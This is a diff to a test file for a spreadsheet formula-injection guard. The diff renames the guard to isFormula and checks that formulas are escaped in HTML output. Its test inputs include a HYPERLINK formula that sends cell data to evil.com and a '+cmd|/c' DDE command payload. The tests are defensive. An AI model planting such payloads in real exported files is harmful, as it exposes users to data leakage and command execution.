@@ -1,11 +1,11 @@
 import { describe, expect, it } from 'vitest';
 import type { Block } from '../../../lib/markdown/nodes.ts';
 import { parseDocument } from '../../../lib/markdown/parse-document.ts';
-import { formulaGuard } from '../../../lib/output/formula-guard.ts';
+import { isFormula } from '../../../lib/output/formula-guard.ts';
 import { documentToHtml } from '../../../lib/output/to-html.ts';
 import { documentToPlain } from '../../../lib/output/to-plain.ts';
 
-describe('formulaGuard', () => {
+describe('a formula', () => {
   it.each([
     '=HYPERLINK("https://evil.com/"&A1;"a")',
     '+cmd|/c!A0',
@@ -16,20 +16,20 @@ describe('formulaGuard', () => {
     ' =1',
     '"=1+1"',
     '" +cmd|/c!A0"',
-  ])('has an apostrophe for %s', (words) => {
-    expect(formulaGuard(words)).toBe("'");
+  ])('is %s in a cell', (words) => {
+    expect(isFormula(words)).toBe(true);
   });
 
   it.each(['', 'a=b', '-', '–', '-5', '+49 89 12', '-1,234.5 %', '@Ann Lee', '@', "'=1", '1-2'])(
-    'has none for %j',
+    'is not %j',
     (words) => {
-      expect(formulaGuard(words)).toBe('');
+      expect(isFormula(words)).toBe(false);
     },
   );
 
-  it('takes linear time', () => {
+  it('is found in linear time', () => {
     for (const words of ['"'.repeat(1_000_000), `@${'a '.repeat(500_000)}!`, `-${'1'.repeat(1_000_000)}x`]) {
-      expect(formulaGuard(words)).toBe(words.startsWith('"') ? '' : "'");
+      expect(isFormula(words)).toBe(!words.startsWith('"'));
     }
   });
 });
@@ -48,7 +48,10 @@ describe('a line of prose', () => {
         .split('\n')
         .filter((line) => line.startsWith("'=")),
     ).toHaveLength(2);
-    expect(documentToHtml(parseDocument(source))).toContain('<h1>&#39;=HYPERLINK(');
+    const html = documentToHtml(parseDocument(`${source}\n\n**a\n=SUM(1)**\n\n> =SUM(1)`));
+    for (const place of ['<h1>', '<br>', '<li>', '<strong>a<br>', '<blockquote><p>']) {
+      expect(html).toMatch(new RegExp(`${place}&#39;=`));
+    }
   });
 });
 
